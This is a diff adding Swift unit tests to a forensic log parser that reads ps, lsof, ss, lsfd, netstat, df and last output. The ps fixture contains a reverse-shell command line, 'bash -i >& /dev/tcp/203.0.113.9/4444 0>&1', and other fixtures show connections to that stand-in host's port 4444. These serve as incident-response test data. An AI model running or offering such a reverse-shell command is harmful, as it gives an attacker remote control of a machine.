@@ -1,5 +1,6 @@
 import Bytes
 import Evidence
+import Foundation
 import Testing
 
 @testable import LogParse
@@ -211,5 +212,146 @@ import Testing
     for text in [#"[{"dev":"ens5"}]"#, #"[{"ifname":"ens5"}]"#, "[]", #"{"dst":"x","dev":"y"}"#] {
       #expect(name(text) != "capture.ip_json", "\(text)")
     }
+  }
+
+  @Test func processesWithoutHeadings() throws {
+    let short = try EventDump(
+      "    1 /sbin/init\n    2 [kthreadd]\n  465 bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", path: "x.txt")
+    #expect(short.format == "capture.ps")
+    #expect(short.events.map { $0.integer("pid") } == [1, 2, 465])
+    #expect(short.events.last?.text("command_line") == "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
+    let long = try EventDump(
+      "    1     0    18:23:29 root     /sbin/init\n    2     0    18:23:29 root     [kthreadd]\n"
+        + "  465     1       00:10 nobody   sleep 7200\n", path: "x.txt")
+    #expect(long.events.map { $0.text("user") } == ["root", "root", "nobody"])
+    #expect(long.events.map { $0.integer("ppid") } == [0, 0, 1])
+    // Whether it is the time that it runs or took, nobody says.
+    #expect(long.events.allSatisfy { $0.time == nil })
+    let owned = try EventDump("    1 root     /sbin/init\n    2 root     [kthreadd]\n", path: "x.txt")
+    #expect(owned.format == "capture.ps" && owned.events.map { $0.text("user") } == ["root", "root"])
+    let started = try EventDump(
+      "Wed Nov 25 05:10:12 2026     1 root     /sbin/init\nWed Nov 25 05:10:12 2026     2 root     [kthreadd]\n",
+      path: "x.txt")
+    #expect(started.format == "capture.ps" && started.events.first?.time?.description == "2026-11-25T05:10:12Z")
+    let named = try EventDump("1234 java -jar x.jar\n1300 sh -c id\n", path: "pgrep_-a_java.txt")
+    #expect(named.events.map { $0.text("command_line") } == ["java -jar x.jar", "sh -c id"])
+  }
+
+  @Test(arguments: [
+    "    1 /sbin/init\n    2 apples\n", "1 one\n2 two\n3 three\n", "  500  2026-11-25 05:20:12 ls\n",
+    "    1\n    2\n", "    1  /sbin/init\n   99  /bin/sh\n", "2 [kthreadd]\nfree text here\n",
+  ])
+  func numbersThatAreNoProcesses(_ text: String) { #expect(name(text) != "capture.ps") }
+
+  @Test func aProgramThatWasDeleted() throws {
+    let dump = try EventDump(
+      "  PID EXE                         COMMAND\n26650 /tmp/gone (deleted)         /tmp/gone 7200\n"
+        + "26651 /tmp/my prog                /tmp/my prog 1\n26957 /usr/bin/sleep              sleep 7200\n",
+      path: "ps_-eo_pid,exe,args.txt")
+    #expect(dump.events.map { $0.text("executable") } == ["/tmp/gone", "/tmp/my prog", "/usr/bin/sleep"])
+    #expect(
+      dump.events.map { $0.text("command_line") } == ["/tmp/gone 7200", "/tmp/my prog 1", "sleep 7200"])
+    #expect(dump.events.map { $0.attributes.contains { $0.name == "is_deleted" } } == [true, false, false])
+  }
+
+  @Test func devicesBehindBracketsAndPathsWithBlanks() throws {
+    let dump = try EventDump(
+      "Netid State  Recv-Q Send-Q Local Address:Port Peer Address:PortProcess\n"
+        + "udp   UNCONN 0 0 [fe80::45d:31ff:fe9a:2ce4]%ens5:5353 [::]:*  users:((\"x\",pid=9,fd=9))\n"
+        + "u_str LISTEN 0 5 /tmp/.X11 unix 4031143 * 0 users:((\"x\",pid=9,fd=23))\n"
+        + "u_str LISTEN 0 5 @abstract name 4031142 * 0 users:((\"x\",pid=9,fd=22))\n"
+        + "u_str ESTAB 0 0 * 4031146 * 4031145 users:((\"x\",pid=9,fd=26))\n", path: "ss.txt")
+    #expect(dump.events.first?.text("local_address") == "fe80::45d:31ff:fe9a:2ce4")
+    #expect(dump.events.first?.text("local_device") == "ens5" && dump.events.first?.text("family") == "inet6")
+    #expect(dump.events.dropFirst().map { $0.text("path") } == ["/tmp/.X11 unix", "@abstract name", nil])
+    #expect(dump.events.dropFirst().map { $0.integer("inode") } == [4_031_143, 4_031_142, 4_031_146])
+  }
+
+  @Test func fieldsOfLsofWithoutDescriptors() throws {
+    let text =
+      "p465\ncjava\nLtomcat\ntDIR\nn/\ntIPv4\nPTCP\nn10.1.0.5:51234->203.0.113.9:4444\nTST=ESTABLISHED\nTQR=0\n"
+      + "p503\ncbash\nLroot\ntREG\nn/tmp/.x\n"
+    for text in [text, "\n" + text, text.replacing("\n", with: "\r\n")] {
+      let dump = try EventDump(text, path: "lsof_-F.txt")
+      #expect(dump.format == "capture.lsof_fields")
+      #expect(dump.events.map { $0.integer("pid") } == [465, 465, 503])
+      #expect(dump.events.map { $0.text("command") } == ["java", "java", "bash"])
+      #expect(dump.events[1].text("remote_address") == "203.0.113.9" && dump.events[1].text("state") == "ESTABLISHED")
+      #expect(dump.events[2].entities.contains { $0.text == "file:/tmp/.x" })
+    }
+    #expect(name("p1\nnotes of a day\ntext\n") == nil)
+    #expect(name("p1\nn/tmp\n") == nil)
+    let queues = try EventDump(
+      "COMMAND PID USER   FD   TYPE  DEVICE SIZE/OFF NODE NAME\n"
+        + "java    465 root    3u  IPv4 4030687      0t0  TCP *:8080 (LISTEN QR=0 QS=0)\n"
+        + "java    465 root    7u  IPv4 4031119      0t0  UDP *:53 (QR=0 QS=0)\n", path: "lsof.txt")
+    #expect(queues.events.map { $0.text("state") } == ["LISTEN", nil])
+  }
+
+  @Test func lsfdIsNoListOfProcesses() throws {
+    let dump = try EventDump(
+      "COMMAND            PID  USER  ASSOC MODE TYPE       SOURCE MNTID      INODE NAME\n"
+        + "my prog          26647  root    cwd  ---  DIR          vda     0          2 /tmp/a dir\n", path: "lsfd.txt")
+    #expect(dump.events.map(\.dataType) == ["linux:capture:open_file"])
+    #expect(dump.events.first?.text("command") == "my prog" && dump.events.first?.integer("pid") == 26647)
+    #expect(dump.events.first?.entities.contains { $0.text == "file:/tmp/a dir" } ?? false)
+    let socket = try EventDump(
+      "COMMAND            PID  USER  ASSOC MODE TYPE       SOURCE MNTID      INODE NAME\n"
+        + "sh  912 root 3 rw- SOCK sockfs 0 44012 TCP state=established laddr=10.0.2.15:51234 raddr=203.0.113.9:4444\n",
+      path: "lsfd.txt")
+    #expect(socket.events.first?.entities.contains { $0.text == "address:203.0.113.9" } ?? false)
+    #expect(socket.events.first?.text("state") == "ESTABLISHED" && socket.events.first?.integer("inode") == 44012)
+    let bare = try EventDump("p465\nPTCP\nn[2001:db8::1]:5000->[2001:db8::9]:4444\n", path: "lsof_-F_pPn.txt")
+    #expect(bare.events.first?.text("family") == "inet6" && bare.events.first?.text("protocol") == "tcp")
+  }
+
+  @Test func digestsOfAnyLength() throws {
+    let long = String(repeating: "ab", count: 64)
+    let dump = try EventDump("\(long)  /etc/passwd\n", path: "sha512sum.txt")
+    #expect(dump.events.first?.text("sha512") == long)
+    let blake = try EventDump("\(long)  /etc/passwd\nBLAKE2b (/etc/group) = \(long)\n", path: "b2sum_etc.txt")
+    #expect(blake.events.allSatisfy { $0.text("blake2b") == long } && blake.events.count == 2)
+    #expect(name("\(long)a  /etc/passwd\n") == nil)
+  }
+
+  @Test func anAliasHasNoCounts() throws {
+    let dump = try EventDump(
+      "Kernel Interface table\n"
+        + "Iface      MTU    RX-OK RX-ERR RX-DRP RX-OVR    TX-OK TX-ERR TX-DRP TX-OVR Flg\n"
+        + "veth0     1500       20      0      0 0            11      0      0      0 BMRU\n"
+        + "veth0:1   1500      - no statistics available -                        BMRU\n", path: "netstat_-i.txt")
+    #expect(dump.events.map { $0.text("interface") } == ["veth0", "veth0:1"])
+    #expect(dump.coverages.allSatisfy { $0.state == .parsed })
+  }
+
+  @Test func textWithNULsBehindIt() throws {
+    let row = "ops      pts/1        10.1.0.9         Wed Nov 25 05:20:51 2026   still logged in\n"
+    let dump = try EventDump(Array(row.utf8) + [UInt8](repeating: 0, count: 512), path: "last.txt")
+    #expect(dump.format == "capture.last" && dump.events.count == 1)
+    #expect(EventDump.recognize([1, 2, 3] + [UInt8](repeating: 0, count: 512), path: "x.txt") == nil)
+    #expect(EventDump.recognize([UInt8](repeating: 0, count: 512), path: "x.txt")?.name != "capture.last")
+  }
+
+  @Test func whatDfSaysInFrontOfItsTable() throws {
+    let dump = try EventDump(
+      "df: /run/user/1000/doc: Operation not permitted\nFilesystem     1K-blocks   Used Available Use% Mounted on\n"
+        + "/dev/vda         1776088 709592    957952  43% /\n", path: "df.txt")
+    #expect(dump.format == "capture.filesystem" && dump.events.count == 1)
+  }
+
+  /// A second column of numbers may be the parents' or the users'.
+  @Test func numbersBehindTheProcessesOwn() throws {
+    let threads =
+      "    1     0 /sbin/init\n    2     0 [kthreadd]\n    3     2 [rcu_gp]\n  960     1 /usr/sbin/sshd -D\n"
+    let parents = try EventDump(threads, path: "ps_pid_ppid_args.txt")
+    #expect(parents.events.map { $0.integer("ppid") } == [0, 0, 2, 1])
+    let users = try EventDump(
+      threads.replacingOccurrences(of: "3     2 [", with: "3     0 [").replacingOccurrences(
+        of: "960     1", with: "960    33"),
+      path: "ps_pid_uid_args.txt")
+    #expect(users.events.map { $0.integer("ppid") } == [nil, nil, nil, nil])
+    #expect(users.events.last?.message.contains("/usr/sbin/sshd") == true)
+    let few = try EventDump("960 33 /usr/sbin/apache2 -k start\n961 33 /usr/sbin/apache2\n", path: "ps_web.txt")
+    #expect(few.events.allSatisfy { $0.integer("ppid") == nil })
   }
 }
